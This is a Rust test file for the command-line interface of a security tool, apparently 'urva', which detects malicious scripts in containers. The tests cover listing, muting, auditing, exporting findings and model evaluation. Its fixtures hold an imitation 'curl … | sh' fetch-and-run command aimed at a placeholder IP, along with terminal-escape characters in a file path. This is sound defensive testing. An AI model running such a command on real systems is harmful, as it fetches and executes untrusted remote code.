//! The command as people call it: what it prints, where, and with which exit code.

#![allow(clippy::expect_used, reason = "a test that cannot be set up must fail")]

mod common;
mod state;

use common::text;
use evidence::{
    Capture, Container, Content, Drift, Executable, Family, Finding, Interpreter, Label, Language, Metadata,
    Namespaces, Pod, Process, Reason, Redaction, Runtime, Script, ScriptKind, Technique, Timestamp, Verdict,
};
use state::urva;
use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;
use store::{Counters, RunStart, Store};

const NOON: Timestamp = Timestamp(1_795_262_400_250_000_000);

#[track_caller]
fn check(output: &Output, code: i32, out: &[&str], error: &[&str]) {
    common::check(output, code, out, error);
    if error.is_empty() {
        assert_eq!(text(&output.stderr), "");
    }
}

fn folder() -> tempfile::TempDir {
    tempfile::tempdir().expect("a folder")
}

/// An imitation: it names an address that does not exist, and is never run.
fn finding(number: u32, namespace: &str, path: &str) -> Finding {
    let source = format!("curl -s http://203.0.113.7/{number} | sh\n");
    let script = Script {
        path: Some(path.into()),
        drift: Drift::WritableLayer,
        ..Script::new(ScriptKind::File, Content::Whole(source.as_str().into()))
    };
    let process = Process {
        pid: number,
        pid_in_container: 2,
        parent_pid: 1,
        started_at: NOON,
        start_ticks: 7,
        uid: 0,
        gid: 0,
        comm: "sh".into(),
        cwd: "/".into(),
        executable: Executable { path: "/bin/dash".into(), size: Some(1), sha256: None },
        args: vec!["sh".into(), path.into()],
        environment: Vec::new(),
        cgroup: "/x".into(),
        namespaces: Namespaces::default(),
    };
    let container = Container {
        name: Some("app".to_owned()),
        image: Some("registry.example/app:1".to_owned()),
        pod: Some(Pod {
            namespace: Some(namespace.to_owned()),
            name: Some("app-1".to_owned()),
            ..Pod::default()
        }),
        metadata: Metadata::Complete,
        ..Container::pending(format!("{number:064x}"), Some(Runtime::Containerd))
    };
    let capture = Capture {
        observed_at: Timestamp(NOON.0 + u64::from(number) * 1_000_000_000),
        process,
        interpreter: Interpreter { family: Family::Dash },
        script,
        container: Some(container),
        coverage: BTreeSet::new(),
        compiled: None,
        held: false,
    };
    let reason = Reason {
        indicator: "fetches a script and runs it".to_owned(),
        line: Some(1),
        end_line: None,
        layer: None,
        excerpt: source,
        weight: 2.5,
        technique: Some(Technique::IngressToolTransfer),
    };
    let verdict = Verdict {
        label: Label::Malicious,
        score: 0.99,
        threshold: 0.5,
        language: Language::Shell,
        model: "test@0123456789ab".to_owned(),
        reasons: vec![reason],
        layers: Vec::new(),
        unseen: Vec::new(),
    };
    Finding::new(capture, verdict, &Redaction::default()).expect("a malicious verdict on a text")
}

/// A state folder with three findings, one of which tries to steer the terminal.
fn filled() -> (tempfile::TempDir, Vec<Finding>) {
    let state = folder();
    let findings = vec![
        finding(1, "shop", "/tmp/one.sh"),
        finding(2, "shop", "/tmp/\u{1b}[2J\u{202e}two.sh"),
        finding(3, "bank", "/tmp/three.sh"),
    ];
    tokio::runtime::Builder::new_current_thread().build().expect("runtime").block_on(async {
        let store = Store::open(state.path().join("urva.db")).await.expect("a new store");
        store.record(&findings, Duration::from_secs(600)).await.expect("recorded");
        store.close().await.expect("closed");
    });
    (state, findings)
}

#[test]
fn help_names_commands_examples_and_exit_codes() {
    let state = folder();
    let parts = [
        "Examples:",
        "urva findings list --since 1h",
        "Exit codes: 0 clean",
        "--config <FILE>",
        "--state <DIR>",
    ];
    check(&urva(state.path(), &["--help"]), 0, &parts, &[]);
    check(&urva(state.path(), &["--version"]), 0, &["urva 0."], &[]);
    check(&urva(state.path(), &["findings", "show", "--help"]), 0, &["--format"], &[]);
    check(&urva(state.path(), &["completion", "bash"]), 0, &["complete -F"], &[]);
}

#[test]
fn a_wrong_command_line_is_an_error() {
    let state = folder();
    check(&urva(state.path(), &["finding"]), 2, &[], &["unrecognized subcommand", "findings"]);
    check(&urva(state.path(), &["findings", "show", "x-z"]), 2, &[], &["1 to 32 letters and digits"]);
    check(&urva(state.path(), &["findings", "list", "--limit", "0"]), 2, &[], &["--limit"]);
    check(
        &urva(state.path(), &["findings", "list", "--since", "yesterday"]),
        2,
        &[],
        &["--since", "90m, 12h or 7d"],
    );
}

#[test]
fn a_config_that_is_wrong_is_refused_with_file_line_and_key() {
    let state = folder();
    let path = state.path().join("urva.toml");
    let file = path.to_str().expect("UTF-8");
    for (config, expected) in [
        (
            "[findings]\nfold_windw = '1m'\n",
            "urva.toml, line 2: there is no key in [findings] named fold_windw; did you mean fold_window?",
        ),
        ("[capture]\nhost_processes = 'no'\n", "urva.toml, line 2: capture.host_processes: invalid type"),
        ("[capture\n", "urva.toml, line 1: this is not TOML"),
    ] {
        std::fs::write(&path, config).expect("written");
        for args in [["config", "check"], ["findings", "list"]] {
            check(
                &urva(state.path(), &[&["--config", file], &args[..]].concat()),
                2,
                &[],
                &["urva: ", expected],
            );
        }
    }
    std::fs::write(&path, "[place]\ncluster = 'shop'\n").expect("written");
    check(&urva(state.path(), &["--config", file, "config", "check"]), 0, &["urva.toml is right."], &[]);
    check(
        &urva(state.path(), &["--config", file, "config", "show"]),
        0,
        &["cluster = \"shop\"", "fold_window = \"10m\""],
        &[],
    );
}

#[test]
fn a_config_that_cannot_be_read_is_an_error() {
    let state = folder();
    let missing = state.path().join("missing.toml");
    let missing = missing.to_str().expect("UTF-8");
    check(
        &urva(state.path(), &["--config", missing, "config", "check"]),
        2,
        &[],
        &["urva: the config file", "cannot be read"],
    );
    let folder = state.path().to_str().expect("UTF-8");
    check(&urva(state.path(), &["--config", folder, "config", "check"]), 2, &[], &["it is not a file"]);
}

#[test]
fn a_state_without_database_is_an_error_that_says_what_to_do() {
    let state = folder();
    for args in [&["findings", "list"][..], &["findings", "show", "0"]] {
        check(&urva(state.path(), args), 2, &[], &["urva: there is no database at", "urva run", "--state"]);
        check(&urva(&state.path().join("missing"), args), 2, &[], &["urva: there is no database at"]);
    }
    assert_eq!(std::fs::read_dir(state.path()).expect("folder").count(), 0, "reading creates nothing");
}

#[test]
fn findings_are_listed_last_first_and_harmless() {
    let (state, findings) = filled();
    let output = urva(state.path(), &["findings", "list"]);
    check(
        &output,
        0,
        &["LAST SEEN", "Malicious Script Executed", "shop/app-1/app", "/tmp/\\u{1b}[2J\\u{20"],
        &[],
    );
    let lines = text(&output.stdout);
    let ids: Vec<&str> = lines.lines().skip(1).filter_map(|line| line.split_whitespace().last()).collect();
    let expected: Vec<&str> = findings.iter().rev().map(|finding| &finding.id.as_str()[..12]).collect();
    assert_eq!(ids, expected);
    assert!(
        !lines.contains(['\u{1b}', '\u{202e}']),
        "no colour and no escape outside of a terminal: {lines}"
    );
}

#[test]
fn what_is_exported_can_be_imported_into_a_new_database_once() {
    let (state, findings) = filled();
    let (other, lines) = (folder(), state.path().join("all.jsonl"));
    let file = lines.to_str().expect("a name");
    check(&urva(state.path(), &["findings", "export", file]), 0, &[], &["rows were exported"]);
    check(&urva(state.path(), &["findings", "export", file]), 2, &[], &["creating", "all.jsonl"]);
    check(&urva(other.path(), &["findings", "import", file]), 0, &[], &["rows were imported"]);
    let shown = |state: &Path| text(&urva(state, &["findings", "list", "--format", "jsonl"]).stdout);
    assert_eq!(shown(other.path()), shown(state.path()));
    assert_eq!(shown(other.path()).lines().count(), findings.len());
    check(&urva(other.path(), &["findings", "import", file]), 2, &[], &["holds something already"]);
    let database = folder().path().join("missing/new.db");
    let elsewhere = ["findings", "import", file, "--database", database.to_str().expect("a name")];
    check(&urva(other.path(), &elsewhere), 2, &[], &["does not exist"]);
    std::fs::write(&lines, "{}\n").expect("written");
    let fresh = folder();
    check(&urva(fresh.path(), &["findings", "import", file]), 2, &[], &["cannot be read", "line 1"]);
}

#[test]
fn filters_choose_findings() {
    let (state, findings) = filled();
    let container = format!("{:064x}", 2)[..].to_owned();
    for (filter, expected) in [
        (&["--namespace", "bank"][..], 1),
        (&["--container", "app"], 3),
        (&["--container", &container], 1),
        (&["--pod", "app-2"], 0),
        (&["--category", "script"], 3),
        (&["--category", "python"], 0),
        (&["--limit", "2"], 2),
        (&["--since", "2026-11-21T12:00:03Z"], 1),
    ] {
        let output = urva(state.path(), &[&["findings", "list", "--format", "jsonl"], filter].concat());
        assert_eq!(text(&output.stdout).lines().count(), expected, "{filter:?}");
    }
    check(&urva(state.path(), &["findings", "list", "--pod", "app-2"]), 0, &["No findings."], &[]);
    check(&urva(state.path(), &["findings", "list", "--pod", "app-2", "--format", "json"]), 0, &["[]"], &[]);
    assert_eq!(findings.len(), 3);
}

#[test]
fn json_is_the_protocols_and_ascii() {
    let (state, findings) = filled();
    let output = urva(state.path(), &["findings", "list", "--format", "json"]);
    assert!(output.stdout.is_ascii());
    let list: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(list.as_array().map(Vec::len), Some(3));
    assert_eq!(list[1]["finding"]["processes"][0]["script"]["path"], "/tmp/\u{1b}[2J\u{202e}two.sh");
    let id = findings[0].id.as_str();
    let output = urva(state.path(), &["findings", "show", &id[..8], "--format", "json"]);
    let one: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(one, list[2]);
    assert!(one["finding"]["name"].as_str().is_some_and(|name| name.ends_with(id)));
}

#[test]
fn a_card_is_shown_for_the_beginning_of_an_id() {
    let (state, findings) = filled();
    let id = findings[0].id.as_str();
    let parts = [
        id,
        "MALICIOUS",
        "fetches a script and runs it",
        "curl -s http://203.0.113.7/1 | sh",
        "What to do",
        "kubectl exec",
    ];
    check(&urva(state.path(), &["findings", "show", &id[..8]]), 0, &parts, &[]);
    let other = if id.starts_with('0') { "1ffffffffffffff0" } else { "0ffffffffffffff0" };
    check(
        &urva(state.path(), &["findings", "show", other]),
        2,
        &[],
        &["urva: no finding has an id that begins with"],
    );
}

/// The state and mute of the finding, and its marks, as its JSON has them.
fn handling(state: &Path, id: &str) -> (String, String, serde_json::Value) {
    let shown = urva(state, &["findings", "show", id, "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&shown.stdout).expect("JSON");
    let text = |field: &str| json["finding"][field].as_str().unwrap_or_default().to_owned();
    (text("state"), text("mute"), json["finding"]["securityMarks"]["marks"].clone())
}

#[test]
fn findings_are_muted_closed_and_marked_and_the_audit_trail_says_by_whom() {
    let (state, findings) = filled();
    let state = state.path();
    let id = findings[0].id.as_str();
    check(&urva(state, &["findings", "mute", &id[..9]]), 0, &[], &["1 finding was muted"]);
    check(&urva(state, &["findings", "close", id]), 0, &[], &["1 finding was closed"]);
    check(
        &urva(state, &["findings", "mark", id, "--set", "owner=anna", "--set", "ticket=7"]),
        0,
        &[],
        &["1 finding was marked"],
    );
    assert_eq!(
        handling(state, id),
        ("INACTIVE".into(), "MUTED".into(), serde_json::json!({"owner": "anna", "ticket": "7"}))
    );
    check(
        &urva(state, &["findings", "show", id]),
        0,
        &["Handling", "closed", "owner = anna", "SetMute"],
        &[],
    );
    check(&urva(state, &["findings", "mark", id, "--remove", "ticket"]), 0, &[], &["1 finding was marked"]);
    check(&urva(state, &["findings", "unmute", id]), 0, &[], &["1 finding was unmuted"]);
    check(&urva(state, &["findings", "reopen", id]), 0, &[], &["1 finding was reopened"]);
    assert_eq!(
        handling(state, id),
        ("ACTIVE".into(), "UNMUTED".into(), serde_json::json!({"owner": "anna"}))
    );
    let audit = urva(state, &["audit", "--format", "jsonl"]);
    let entries: Vec<serde_json::Value> =
        text(&audit.stdout).lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let actions: Vec<&str> = entries.iter().filter_map(|entry| entry["action"].as_str()).collect();
    let expected = [
        "SetFindingState",
        "SetMute",
        "UpdateSecurityMarks",
        "UpdateSecurityMarks",
        "SetFindingState",
        "SetMute",
    ];
    assert_eq!(actions, expected, "the newest first");
    assert!(
        entries.iter().all(|entry| entry["actor"]
            .as_str()
            .is_some_and(|actor| actor.starts_with("command line, user ")))
    );
    assert_eq!(
        (&entries[0]["before"]["state"], &entries[0]["after"]["state"]),
        (&"INACTIVE".into(), &"ACTIVE".into())
    );
}

#[test]
fn many_findings_are_changed_only_where_somebody_said_so() {
    let (state, findings) = filled();
    let state = state.path();
    check(&urva(state, &["findings", "mute"]), 2, &[], &["say which findings"]);
    check(&urva(state, &["findings", "mute", "0", "--namespace", "shop"]), 2, &[], &["not both"]);
    check(
        &urva(state, &["findings", "mute", "--namespace", "shop"]),
        2,
        &[],
        &["2 findings will be muted", "--yes"],
    );
    check(
        &urva(state, &["findings", "mute", "--filter", "colour = \"red\"", "--yes"]),
        2,
        &[],
        &["--filter", "colour", "character 1"],
    );
    check(&urva(state, &["findings", "mark", "0"]), 2, &[], &["--remove"]);
    assert!(findings.iter().all(|finding| handling(state, finding.id.as_str()).1 == "UNDEFINED"));
    check(
        &urva(state, &["findings", "mute", "--namespace", "shop", "--yes"]),
        0,
        &[],
        &["2 findings were muted"],
    );
    let muted = urva(state, &["findings", "list", "--format", "jsonl", "--filter", "mute = \"MUTED\""]);
    assert_eq!(text(&muted.stdout).lines().count(), 2);
}

#[test]
fn a_rule_shows_what_it_would_mute_and_is_asked_for_twice_where_that_is_much() {
    let (state, findings) = filled();
    let state = state.path();
    let rules = |args: &[&str]| urva(state, &[&["mute-rules"], args].concat());
    check(&rules(&["list"]), 0, &["No mute rules."], &[]);
    let preview = rules(&["preview", "--namespace", "shop", "--format", "json"]);
    let preview: serde_json::Value = serde_json::from_slice(&preview.stdout).expect("JSON");
    assert_eq!(preview["filter"], "source_properties.Pod_Namespace = \"shop\"");
    check(&rules(&["create", "shop"]), 2, &[], &["required"]);
    check(&rules(&["create", "shop", "--filter", " "]), 2, &[], &["every finding"]);
    check(&rules(&["create", "shop", "--script", "12"]), 2, &[], &["64 hexadecimal digits"]);
    check(
        &rules(&["create", "shop", "--namespace", "shop"]),
        2,
        &[],
        &["Nobody is there to be asked: give --yes"],
    );
    check(&rules(&["list"]), 0, &["No mute rules."], &[]);
    let create =
        ["create", "shop", "--namespace", "shop", "--description", "known", "--expires", "30d", "--yes"];
    check(&rules(&create), 0, &[], &["mute rule shop is in force"]);
    check(&rules(&create), 2, &[], &["exists already"]);
    check(&rules(&["list"]), 0, &["RULE", "shop", "dynamic", "known"], &[]);
    check(&rules(&["show", "shop"]), 0, &["Pod_Namespace = \"shop\"", "command line, user"], &[]);
    let mutes: Vec<String> = findings.iter().map(|finding| handling(state, finding.id.as_str()).1).collect();
    assert_eq!(mutes, ["MUTED", "MUTED", "UNDEFINED"], "a dynamic rule counts for what is there");
    check(
        &rules(&["update", "shop", "--filter", "category = \"x\"", "--yes"]),
        0,
        &[],
        &["mute rule shop was changed"],
    );
    assert!(findings.iter().all(|finding| handling(state, finding.id.as_str()).1 != "MUTED"));
    check(&rules(&["delete", "shop"]), 0, &[], &["mute rule shop is gone"]);
    check(&rules(&["delete", "shop"]), 2, &[], &["not found"]);
}

#[test]
#[allow(
    clippy::disallowed_methods,
    reason = "what counts are the last 30 days, which the command reads from the clock"
)]
fn a_rule_that_hides_critical_findings_of_two_namespaces_is_asked_for_twice() {
    let (state, _) = filled();
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("after 1970");
    let now = Timestamp(u64::try_from(since.as_nanos()).expect("before 2500"));
    let new = [(4, "shop"), (5, "bank")].map(|(number, namespace)| {
        let mut finding = finding(number, namespace, "/tmp/new.sh");
        (finding.first_seen, finding.last_seen) = (now, now);
        finding
    });
    tokio::runtime::Builder::new_current_thread().build().expect("runtime").block_on(async {
        let store = Store::open(state.path().join("urva.db")).await.expect("a store");
        store.record(&new, Duration::from_secs(600)).await.expect("recorded");
        store.close().await.expect("closed");
    });
    let rules = |args: &[&str]| urva(state.path(), &[&["mute-rules"], args].concat());
    let preview = rules(&["preview", "--container", "app"]);
    check(&preview, 0, &["CRITICAL, in 2 namespaces", "shop", "bank", "registry.example/app:1"], &[]);
    let create = ["create", "wide", "--container", "app", "--yes"];
    check(&rules(&create), 2, &[], &["It hides CRITICAL findings of 2 namespaces.", "give --yes twice"]);
    check(&rules(&[&create[..], &["--yes"]].concat()), 0, &[], &["mute rule wide is in force"]);
}

#[test]
fn findings_are_sorted_counted_and_written_for_spreadsheets() {
    let (state, findings) = filled();
    let sorted = urva(state.path(), &["findings", "list", "--format", "csv", "--order-by", "event_time"]);
    check(&sorted, 0, &["name,category,severity", "/tmp/\\u{1b}[2J\\u{202e}two.sh"], &[]);
    let lines = text(&sorted.stdout);
    let names: Vec<&str> = lines.lines().skip(1).filter_map(|line| line.split(',').next()).collect();
    assert!(
        names.iter().zip(&findings).all(|(name, finding)| name.ends_with(finding.id.as_str())),
        "{names:?}"
    );
    check(
        &urva(state.path(), &["findings", "list", "--order-by", "colour"]),
        2,
        &[],
        &["--order-by", "colour"],
    );
    let by = "source_properties.Pod_Namespace,category";
    check(
        &urva(state.path(), &["findings", "group", by]),
        0,
        &["FINDINGS", "shop", "bank", "Malicious Script Executed"],
        &[],
    );
    let groups = urva(state.path(), &["findings", "group", "category", "--format", "json"]);
    let groups: serde_json::Value = serde_json::from_slice(&groups.stdout).expect("JSON");
    assert_eq!(
        groups,
        serde_json::json!([{"properties": {"category": "Malicious Script Executed"}, "count": "3"}])
    );
}

#[test]
fn a_reader_that_leaves_early_is_no_error() {
    let (state, _) = filled();
    let mut child = Command::new(env!("CARGO_BIN_EXE_urva"))
        .args(["findings", "list", "--format", "json"])
        .env("URVA_STATE", state.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("urva starts");
    drop(child.stdout.take());
    let output = child.wait_with_output().expect("urva ends");
    check(&output, 0, &[], &[]);
}

#[test]
fn training_refuses_what_cannot_work_before_it_begins() {
    let state = folder();
    let corpus = state.path().to_str().expect("UTF-8");
    let model = state.path().join("model");
    let model = model.to_str().expect("UTF-8");
    check(&urva(state.path(), &["train", corpus, "--output", model]), 2, &[], &["urva: no corpus file"]);
    assert_eq!(std::fs::read_dir(state.path()).expect("folder").count(), 0, "nothing is left over");
    std::fs::write(model, "something").expect("written");
    check(
        &urva(state.path(), &["train", corpus, "--output", model]),
        2,
        &[],
        &["urva: ", "exists", "--force"],
    );
    check(&urva(state.path(), &["eval", corpus]), 2, &[], &["urva: no corpus file"]);
    check(&urva(state.path(), &["train", corpus]), 2, &[], &["--output"]);
}

/// A corpus of harmless lines under both labels: what counts here is what the command says of them.
fn small_corpus() -> String {
    let mut lines = String::new();
    for at in 0..12 {
        for (label, text) in [("malicious", "reach_out"), ("benign", "stay_home")] {
            let text = format!("{text}_{at}() {{ echo {label} {at}; }}");
            let line = serde_json::json!({
                "label": label, "lang": "bash", "text": text, "cluster": format!("{label}-{at}"), "id": format!("made:{at}"),
            });
            lines += &format!("{line}\n");
        }
    }
    lines
}

#[test]
fn a_method_is_measured_for_people_for_machines_and_for_a_card() {
    let state = folder();
    let path = |name: &str| state.path().join(name).to_str().expect("UTF-8").to_owned();
    let (corpus, card, model) = (path("made.jsonl"), path("card.md"), path("my.model"));
    std::fs::write(&corpus, small_corpus()).expect("written");
    let common = ["--alone", "--folds", "2"];
    let run = |args: &[&str]| urva(state.path(), &[args, &common].concat());
    let told = ["shell: 12 malicious clusters", "recall at 0.10 % false alarms", "Thresholds", "Calibration"];
    check(&run(&["eval", &corpus, "--markdown", &card]), 0, &told, &[]);
    assert!(std::fs::read_to_string(&card).expect("card").contains("| at most | recall | 95 % interval |"));
    let output = run(&["eval", &corpus, "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(report["languages"][0]["malicious_clusters"], 12);
    check(
        &run(&["train", &corpus, "--output", &model]),
        0,
        &["no Python texts: that part is the built-in"],
        &[],
    );
    check(&run(&["eval", &corpus, "--model", &model]), 0, &["Warning: the model may have been trained"], &[]);
    let leak = ["the same text", "--leave-known-out"];
    check(&run(&["eval", &corpus, "--test", &corpus]), 2, &[], &leak);
    check(&run(&["eval", &corpus, "--split", "date"]), 2, &[], &["--since"]);
    std::fs::write(&corpus, small_corpus() + "{\n").expect("written");
    check(&run(&["eval", &corpus]), 2, &[], &["made.jsonl, line 25: EOF while parsing", "--skip-broken"]);
    check(&run(&["eval", &corpus, "--skip-broken"]), 0, &["made.jsonl: 1 unreadable"], &[]);
}

/// A state folder in which a run of `urva` has begun at `started_at`, and counted a moment ago.
fn watched(started_at: Timestamp, is_ended: bool) -> tempfile::TempDir {
    let state = folder();
    tokio::runtime::Builder::new_current_thread().build().expect("runtime").block_on(async {
        let store = Store::open(state.path().join("urva.db")).await.expect("a new store");
        let start = RunStart {
            started_at,
            version: "0.1.0".to_owned(),
            model: "test@0123456789ab".to_owned(),
            host: "node-1".to_owned(),
            pid: 4242,
        };
        let run = store.begin_run(&start).await.expect("begun").id;
        let mut counters = Counters { captured: 70, judged: 69, not_captured: 1, ..Counters::default() };
        counters.notes.insert("NOT_CAPTURED_PROCESS_GONE".to_owned(), 1);
        let now = Timestamp::from_seconds(now());
        let done = if is_ended {
            store.end_run(run, now, &counters).await
        } else {
            store.heartbeat(run, now, &counters).await
        };
        done.expect("counted");
        store.close().await.expect("closed");
    });
    state
}

#[allow(clippy::disallowed_methods, reason = "the command compares with the clock")]
fn now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("after the epoch").as_secs()
}

#[test]
fn the_status_tells_whether_somebody_watches() {
    let none = folder();
    check(&urva(none.path(), &["status"]), 2, &[], &["nobody has watched yet", "urva run"]);
    let watches = watched(NOON, false);
    check(&urva(watches.path(), &["status"]), 0, &["watches node-1: process 4242", "texts seen", "70"], &[]);
    let ended = watched(NOON, true);
    check(&urva(ended.path(), &["status"]), 2, &["does not watch node-1: it was stopped at"], &[]);
}

#[test]
fn the_status_is_there_for_machines() {
    let state = watched(NOON, false);
    let output = urva(state.path(), &["status", "--format", "json"]);
    let status: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!((&status["watches"], &status["counters"]["captured"]), (&true.into(), &70.into()));
    let prometheus = urva(state.path(), &["status", "--format", "prometheus"]);
    check(
        &prometheus,
        0,
        &["urva_up 1", "urva_coverage_notes_total{note=\"NOT_CAPTURED_PROCESS_GONE\"} 1"],
        &[],
    );
}
